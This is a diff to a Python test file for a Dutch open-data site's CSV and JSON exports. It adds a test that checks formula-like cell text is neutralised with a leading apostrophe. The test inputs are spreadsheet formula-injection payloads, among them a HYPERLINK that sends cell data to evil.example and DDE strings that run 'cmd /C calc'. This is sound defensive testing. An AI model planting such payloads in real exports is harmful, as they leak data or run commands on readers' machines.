@@ -13,7 +13,7 @@ import jsonschema
 import pytest
 
 from macros.data.load import load_document
-from macros.outputs.exports import EXPORTS, csv_header, csv_text, json_records
+from macros.outputs.exports import EXPORTS, FORMULA_START, csv_header, csv_text, json_records
 from macros.pipeline import load_plan
 from macros.views.open_data import field_rows
 from tests.helpers import ROOT, copy_fixture_data, edit, soup
@@ -90,6 +90,12 @@ def test_json_matches_its_published_schema(site, kind):
     )
 
 
+def _as_text(cell: str) -> str:
+    """A cell as a spreadsheet shows it: a formula is never run, and a leading ' only marks text."""
+    assert not cell.startswith(FORMULA_START), f"a spreadsheet would run {cell!r} as a formula"
+    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell
+
+
 def csv_as_records(raw: bytes, kind: str) -> list[dict]:
     """Read the CSV as a Dutch spreadsheet would, and rebuild lists, numbers and the budget."""
     assert raw.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 byte order mark"
@@ -111,12 +117,12 @@ def csv_as_records(raw: bytes, kind: str) -> list[dict]:
                 continue
             kind_of = types[name]
             if kind_of == "lijst":
-                record[name] = cell.split(", ") if cell else []
+                record[name] = _as_text(cell).split(", ") if cell else []
             elif kind_of == "ja/nee":
                 assert cell in ("true", "false")
                 record[name] = cell == "true"
             else:
-                record[name] = cell or None
+                record[name] = _as_text(cell) or None
         if "budget" in types:
             record["budget"] = [budget[year] for year in sorted(budget)]
         records.append(record)
@@ -206,3 +212,36 @@ def test_plain_csv_reads_in_pandas_as_the_open_data_page_says(site, kind):
     assert list(frame.columns) == [c.name for c in spec.csv_columns]
     assert len(frame) == len(spec.rows(plan))
     assert frame["illustratief"].dtype == bool
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+        "@SUM(1+1)*cmd|' /C calc'!A0 Wensen",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\tverborgen formule =1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_could_be_formulas_are_neutralised(tmp_path, title):
+    """Audit M1: in every CSV a text that starts like a formula gets a ' in front (OWASP); JSON keeps the text."""
+    data = tmp_path / "data"
+    copy_fixture_data(data)
+    edit(data / "maatregelen" / "M01.yml", "titel: Informatiepunt mensenhandel", f"titel: {json.dumps(title)}")
+    edit(data / "maatregelen" / "M01.yml", "    titel: Informatiepunt inrichten", f"    titel: {json.dumps(title)}")
+    plan, _ = load_plan(data, shown_root=tmp_path)
+    seen = 0
+    for kind in EXPORTS:
+        raw = csv_text(kind, plan)
+        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=kind.csv_format.delimiter):
+            # What a spreadsheet evaluates: any cell whose first character starts a formula.
+            assert not any(cell.startswith(FORMULA_START) for cell in row), (kind.name, row)
+            seen += sum(cell == "'" + title for cell in row)
+    assert seen >= 2  # the measure's title and its action's title
+    for kind in (k for k in EXPORTS if k.name in KINDS):
+        records = csv_as_records(b"\xef\xbb\xbf" + csv_text(kind, plan).encode("utf-8"), kind.name)
+        assert_round_trip(records, yaml_records(data, kind.name), kind.name)
+    measures = json_records(next(k for k in EXPORTS if k.name == "maatregelen"), plan)
+    assert next(r for r in measures if r["id"] == "M01")["titel"] == title
